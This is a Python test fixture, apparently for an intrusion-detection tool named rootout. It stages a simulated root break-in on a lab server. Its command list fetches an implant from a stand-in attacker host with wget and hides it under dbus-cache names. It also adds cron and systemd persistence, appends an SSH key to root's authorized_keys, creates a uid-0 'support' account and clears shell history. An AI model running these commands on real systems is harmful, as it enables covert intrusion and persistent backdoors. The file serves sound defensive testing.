"""The intrusion that rootout must tell and end: harmless, and over by itself in 15 minutes."""

import hashlib
import os
import signal
import subprocess
import sys
import time
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

from tests.lab.intrusion.tries import TRIES, try_passwords
from tests.lab.network import ATTACKER
from tests.lab.server import Server
from tests.lab.ssh import Session, command, password_environment

HERE = Path(__file__).parent
FUSE = 15 * 60  # seconds
FILE_PORT = 8080
# the owner's own, odd or not: never a part of the intrusion
INNOCENT = (
    "/etc/crontab",
    "/etc/cron.d/backup-www",
    "/etc/cron.d/php",
    "/etc/systemd/system/shop-worker.service",
    "/etc/ssh/sshd_config.d/careless.conf",
    "/etc/sudoers.d/deploy",
    "/etc/nginx/sites-available/default",
    "/home/alice/.bashrc",
    "/home/alice/.ssh/authorized_keys",
    "/home/deploy/.ssh/authorized_keys",
    "/srv/www/index.php",
    "/srv/www/upload.php",
    "/usr/local/bin/backup-www",
    "/usr/local/bin/shop-worker",
    "/var/spool/cron/crontabs/deploy",
)
NAMES = ("kworker/0:3", "kworker/1:2")


@dataclass(frozen=True, kw_only=True)
class Intrusion:
    """What was planted: the ground truth that a scan is measured against."""

    server: Server
    began: float  # seconds since 1970, of the login that succeeded
    session: Session | None  # the attacker's, where it was left open
    sha256: str  # of the implant
    fingerprint: str  # of the planted key, as sshd writes it
    key_line: str

    address: str = ATTACKER
    entered_as: str = "root"
    tries: int = TRIES
    names: tuple[str, str] = NAMES  # of the two processes
    program: str = "/tmp/.font-unix/.fc-cache"  # deleted as soon as it runs
    store: str = "/usr/lib/.dbus-cache/dbus-helper"
    port: int = 47113  # where the first of the two listens
    attacker_port: int = 4444  # where it holds a connection
    account: str = "support"
    crontab: str = "/var/spool/cron/crontabs/root"
    cron_line: str = "* * * * * /usr/lib/.dbus-cache/dbus-helper"
    cron_file: str = "/etc/cron.d/dbus-cache"
    unit: str = "dbus-cache.service"
    unit_file: str = "/etc/systemd/system/dbus-cache.service"
    keys_file: str = "/root/.ssh/authorized_keys"

    def pids(self) -> dict[str, int]:
        """Return the pids, by name, of what runs now: true ones, asked from outside the server."""
        found = {}
        for pid, folder in self.server.processes().items():
            with suppress(OSError):  # it ended while we looked
                name, state = (folder / "stat").read_text().partition("(")[2].rsplit(") ", 1)
                if name in self.names and not state.startswith("Z"):
                    found[name] = pid
        return found

    def is_whole(self) -> bool:
        """Say whether both processes run."""
        return set(self.pids()) == set(self.names)

    def wait_until_whole(self, timeout: float) -> None:
        """Wait until both processes run. Raises AssertionError where they do not."""
        deadline = time.monotonic() + timeout
        while not self.is_whole():
            assert time.monotonic() < deadline, f"only {self.pids()} after {timeout} s"
            time.sleep(0.1)

    def end(self, timeout: float = 10) -> None:
        """Freeze and kill the processes until none is left; what starts them is left alone."""
        deadline = time.monotonic() + timeout
        while self.pids():
            assert time.monotonic() < deadline, f"{self.pids()} after {timeout} s"
            for number in (signal.SIGSTOP, signal.SIGKILL):
                for folder in self.server.processes().values():
                    self._signal(folder, number)
            time.sleep(0.1)

    def _signal(self, folder: Path, number: int) -> None:
        with suppress(OSError):  # it ended while we looked
            if (folder / "comm").read_text().strip() in self.names:
                os.kill(int(folder.name), number)


def intrude(server: Server, *, leave_open: bool = False) -> Intrusion:
    """Break into `server` from the attacker's address and plant all of it, over that login."""
    implant = _compile(server.folder / "implant")
    _listen(server, implant)
    key, key_line = _make_key(server.folder)
    try_passwords(server)
    session = server.log_in(
        command(server.outside, Intrusion.entered_as, ATTACKER),
        password_environment(server.folder, "lab-root"),
    )
    began = time.time()
    for line in _commands(key_line):
        answer = session.run(f"{line} && echo done", timeout=20)
        assert answer.endswith("done\n"), f"{line}: {answer}"
    if not leave_open:
        session.run("history -c")
        session.close()
    found = Intrusion(
        server=server,
        began=began,
        session=session if leave_open else None,
        sha256=hashlib.sha256(implant.read_bytes()).hexdigest(),
        fingerprint=key,
        key_line=key_line,
    )
    found.wait_until_whole(10)
    return found


def _compile(target: Path) -> Path:
    """Compile the implant with its fuse in it, linked so that it runs on any server."""
    texts = {
        "STORE": Intrusion.store,
        "FOLDER": str(Path(Intrusion.program).parent),
        "PROGRAM": Intrusion.program,
        "ATTACKER": ATTACKER,
    }
    numbers = {
        "PORT": Intrusion.port,
        "ATTACKER_PORT": Intrusion.attacker_port,
        "DEADLINE": int(time.time()) + FUSE,
    }
    defines = [f'-D{name}="{text}"' for name, text in texts.items()]
    defines += [f"-D{name}={number}" for name, number in numbers.items()]
    options = ["-static", "-O2", "-s", "-Wall", "-Wextra", "-Werror"]
    argv = ["gcc", *options, *defines, "-o", str(target), str(HERE / "implant.c")]
    subprocess.run(argv, check=True)
    return target


def _listen(server: Server, implant: Path) -> None:
    """Start the attacker's machine; it ends with the server."""
    ports = (str(FILE_PORT), str(Intrusion.attacker_port))
    program = [sys.executable, str(HERE / "attacker.py"), ATTACKER, str(implant), *ports]
    attacker = subprocess.Popen(
        server.outside.command(*program), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE
    )
    server.closing.callback(attacker.communicate)
    server.closing.callback(attacker.kill)
    assert attacker.stdout is not None
    assert attacker.stdout.readline() == b"ready\n"


def _make_key(folder: Path) -> tuple[str, str]:
    """Return the fingerprint and the public line of a new key, whose private half is lost."""
    path = folder / "attacker_key"
    make = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "x@kali", "-f", str(path)]
    subprocess.run(make, check=True)
    public = path.with_suffix(".pub")
    path.unlink()
    return fingerprint(public), public.read_text().strip()


def fingerprint(public: Path) -> str:
    """Return a public key's fingerprint, as sshd writes it."""
    told = subprocess.run(
        ["ssh-keygen", "-l", "-f", str(public)], check=True, capture_output=True, text=True
    )
    return told.stdout.split()[1]


def _commands(key_line: str) -> list[str]:
    """Return what the attacker types, in order."""
    i = Intrusion
    unit = (
        "[Unit]\nDescription=D-Bus cache\n[Service]\n"
        f"ExecStart={i.store}\nRestart=always\nRestartSec=3\n"
        "[Install]\nWantedBy=multi-user.target\n"
    )
    return [
        f"mkdir -p {Path(i.program).parent} {Path(i.store).parent}",
        f"wget -q -O {i.program} http://{i.address}:{FILE_PORT}/fc && chmod 755 {i.program}",
        f"cp {i.program} {i.store}",
        i.program,
        f"rm -f {i.program}",
        f"(crontab -l; echo '{i.cron_line}') | crontab -",
        f"echo '* * * * * root {i.store}' > {i.cron_file}",
        f"printf '{unit}' > {i.unit_file}".replace("\n", "\\n"),
        f"systemctl daemon-reload; systemctl enable -q --now {i.unit}",
        f"echo '{key_line}' >> {i.keys_file}",
        f"useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {i.account}",
        f"echo {i.account}:lab-{i.account} | chpasswd",
    ]
